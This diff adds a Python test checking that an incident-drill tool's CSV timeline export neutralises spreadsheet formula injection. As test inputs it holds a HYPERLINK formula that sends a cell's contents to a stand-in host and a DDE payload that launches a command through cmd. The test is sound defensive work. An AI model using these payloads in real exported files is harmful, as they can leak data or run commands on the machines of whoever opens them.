@@ -69,3 +69,26 @@ def test_cli_report_print_timeline_and_demo(
     assert main(["--data-dir", str(tmp_path / "demo"), "demo", "--out", str(demo)]) == 0
     text = pdf_text(demo)
     assert "訓練: 財務課ファイルサーバの暗号化" in text and "決裁欄" in text
+
+
+def test_csv_cells_never_start_a_formula(workspace: Workspace, drill: str, tmp_path: Path) -> None:
+    from app.reports.export import _inert
+
+    notes = [
+        '=HYPERLINK("http://example.invalid/?q="&A1,"詳細")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A2)",
+    ]
+    for text in notes:
+        workspace.incidents.note(drill, text, "=山田")
+    out = tmp_path / "timeline.csv"
+    write_timeline_csv(workspace, drill, out)
+    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
+    written = [r[8] for r in rows if r[4] == "noted"]
+    for text in notes:
+        assert "'" + text in written  # shown as typed, never evaluated
+    for row in rows:
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row), row
+    assert _inert("\tx") == "'\tx" and _inert("\r=1") == "'\r=1" and _inert("a=1") == "a=1"
+    assert _inert(-3) == -3  # numbers are numbers
